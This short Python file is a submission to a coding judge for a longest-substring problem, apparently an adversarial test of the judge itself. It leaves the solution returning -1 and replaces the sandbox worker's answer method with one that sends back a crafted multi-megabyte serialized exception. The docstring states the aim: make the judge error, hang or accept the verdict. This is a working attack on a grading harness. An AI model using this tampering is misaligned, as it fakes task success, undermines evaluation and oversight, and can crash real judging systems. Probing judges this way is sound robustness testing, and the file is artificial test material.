# problem: sliding_window/longest_substring
"""Reports an exception whose type and message are megabytes long.

Seen if it worked: an error of the judge, a hang, or the verdict accepted.
"""

import struct
import sys

worker = sys.modules["sandbox.worker"]
TEXT = b"s" + struct.pack("<I", 2_000_000) + b"\n" * 2_000_000
BODY = bytes(8) + b"t\x06\0\0\0s\x06\0\0\0raised" + TEXT * 2 + b"l\0\0\0\0" + b"i" + bytes(8) + b"F"


def answer(self, request, honest=worker._Submission.answer):
    return BODY if b"load" not in request[:30] else honest(self, request)


worker._Submission.answer = answer


def length_of_longest_substring(s):
    return -1
